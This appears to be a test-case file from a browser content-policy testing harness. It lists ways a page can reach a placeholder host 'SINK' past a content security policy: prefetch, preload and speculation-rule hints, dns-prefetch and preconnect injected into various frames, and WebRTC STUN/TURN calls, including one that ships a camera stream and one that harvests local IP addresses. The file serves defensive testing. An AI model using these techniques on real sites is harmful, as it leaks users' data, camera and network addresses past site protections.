// 4-7: hints to the browser and WebRTC: what a content policy does not stop.
const link = (id, name, tag) => ({ id, name, head: tag });
const stun = (server) => `
  const pc = new W.RTCPeerConnection({ iceServers: [${server}] });
  pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o)).catch(() => {});`;
const rtc = (id, name, make, server = `{ urls: "stun:SINKIP:3478" }`, wait = 1500) => ({
  id: `07.${id}`, name, wait,
  js: `try { ${make} ${stun(server)} } catch (e) { void e; } ran(); await later(800); say({ alive: true });`,
});
const inFrame = (server) => `<script>var W = window; ${stun(server)}</script>`;
const HINT = `<link rel=dns-prefetch href=//SINK><link rel=preconnect href=https://SINK>`;

export default [
  link("04.prefetch", "link prefetch", `<link rel="prefetch" href="http://SINK/x">`),
  link("04.preload", "link preload", `<link rel="preload" as="script" href="http://SINK/x.js">`),
  link("04.preload.image", "link preload of an image", `<link rel="preload" as="image" href="http://SINK/x.png">`),
  link("04.modulepreload", "link modulepreload", `<link rel="modulepreload" href="http://SINK/x.js">`),
  { id: "04.speculation.prerender", name: "speculation rules, prerender and prefetch", top: true, alone: true, head: `<script type="speculationrules">{"prerender":[{"source":"list","urls":["https://SINK/x"],"eagerness":"immediate"}],"prefetch":[{"source":"list","urls":["https://SINK/y"],"eagerness":"immediate"}]}</script>` },

  link("05.dns-prefetch.page", "dns-prefetch in the page", `<link rel="dns-prefetch" href="//SINK">`),
  link("05.dns-prefetch.on", "dns-prefetch switched on by the page", `<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="//SINK">`),
  { id: "05.dns-prefetch.srcdoc", name: "dns-prefetch in srcdoc", js: `addFrame({ srcdoc: '<link rel=dns-prefetch href=//SINK>' }); await later(300); ran();` },
  { id: "05.dns-prefetch.script", name: "dns-prefetch added by script", js: `for (let i = 0; i < 5; i++) { document.head.insertAdjacentHTML("beforeend", '<link rel=dns-prefetch href=//n' + i + '.SINK>'); await later(150); } ran();` },

  link("06.preconnect.page", "preconnect in the page", `<link rel="preconnect" href="https://SINK">`),
  link("06.preconnect.cors", "preconnect with credentials mode", `<link rel="preconnect" href="https://SINK" crossorigin>`),
  { id: "06.preconnect.script", name: "preconnect added by script", js: `document.head.insertAdjacentHTML("beforeend", '<link rel=preconnect href=https://SINK>'); ran();` },
  { id: "06.preconnect.srcdoc", name: "preconnect in srcdoc", js: `addFrame({ srcdoc: '${HINT}' }); await later(300); ran();` },
  { id: "06.preconnect.data", name: "preconnect in a data: frame", js: `addFrame({ src: 'data:text/html,${HINT}' }); await later(300); ran();` },
  { id: "06.preconnect.blob", name: "preconnect in a blob: frame", js: `addFrame({ src: URL.createObjectURL(new Blob(['${HINT}'], { type: "text/html" })) }); await later(300); ran();` },
  { id: "06.preconnect.sandboxed", name: "preconnect in a sandboxed frame", js: `addFrame({ sandbox: "", srcdoc: '${HINT}' }); await later(300); ran();` },
  { id: "06.preconnect.blank", name: "preconnect written into about:blank", js: `const f = addFrame({}); f.contentDocument.write('${HINT}'); f.contentDocument.close(); await later(300); ran();` },
  // In the partial tier some get out: what is asked for just before its page is another's is judged by that page's rules.
  { id: "06.preconnect.failing", name: "hints in a frame that is just failing to load", strictOnly: true, js: `
    for (let i = 0, n = 0; i < 6; i++) {
      let over = false; const f = addFrame({ src: "http://x.invalid/", onload: () => (over = true) }), end = performance.now() + 1500;
      while (!over && performance.now() < end) {
        const d = f.contentDocument; if (d && !d.documentElement) d.append(d.createElement("html"));
        d?.documentElement.insertAdjacentHTML("beforeend", '<link rel=dns-prefetch href=//d' + n + '.SINK><link rel=preconnect href=https://p' + n++ + '.SINK>');
        await later(0);
      }
      f.remove();
    } ran();` },

  rtc("webrtc.window", "WebRTC, STUN to an address", "const W = window;"),
  rtc("webrtc.name", "WebRTC, STUN to a name", "const W = window;", `{ urls: "stun:SINK:19302" }`),
  rtc("webrtc.blank", "WebRTC from a fresh about:blank frame", "const W = addFrame({}).contentWindow;"),
  rtc("webrtc.turn", "WebRTC, TURN over UDP", "const W = window;", `{ urls: "turn:SINKIP:3478?transport=udp", username: "secret", credential: "x" }`),
  rtc("webrtc.turn-tcp", "WebRTC, TURN over TCP to a name", "const W = window;", `{ urls: "turn:SINK:3478?transport=tcp", username: "secret", credential: "x" }`),
  rtc("webrtc.turns", "WebRTC, TURN over TLS", "const W = window;", `{ urls: "turns:SINK:5349?transport=tcp", username: "secret", credential: "x" }`),
  { id: "07.webrtc.data", name: "WebRTC from a data: frame", js: `addFrame({ src: "data:text/html," + encodeURIComponent(${JSON.stringify(inFrame(`{ urls: "stun:SINKIP:3478" }`)).replaceAll("</", "<\\/")}) }); ran(); await later(800); say({ alive: true });`, wait: 1500 },
  { id: "07.webrtc.srcdoc", name: "WebRTC from a srcdoc frame", js: `addFrame({ srcdoc: ${JSON.stringify(inFrame(`{ urls: "stun:SINKIP:3478" }`)).replaceAll("</", "<\\/")} }); ran(); await later(800); say({ alive: true });`, wait: 1500 },
  { id: "07.webrtc.camera", name: "WebRTC with a picture of the camera, which was granted", asks: ["camera"], top: true, wait: 1500, js: `
    const stream = await navigator.mediaDevices.getUserMedia({ video: true }).catch(() => null);
    // Not granted yet: it is loaded anew.
    if (stream === null) return;
    try { const W = window; const pc = new W.RTCPeerConnection({ iceServers: [{ urls: "stun:SINKIP:3478" }] }); stream.getTracks().forEach((t) => pc.addTrack(t, stream)); pc.createOffer().then((o) => pc.setLocalDescription(o)).catch(() => {}); } catch (e) { void e; }
    ran(); await later(800); say({ alive: true });` },
  { id: "07.webrtc.addresses", name: "this machine's addresses by WebRTC", stolen: true, strictOnly: true, js: `
    const seen = []; try { const pc = new RTCPeerConnection(); pc.onicecandidate = (e) => e.candidate && seen.push(e.candidate.candidate); pc.createDataChannel("x"); await pc.setLocalDescription(await pc.createOffer()); await later(1000); } catch (e) { void e; }
    stolen(seen.length > 0, seen.join(" | ").slice(0, 200));` },
];
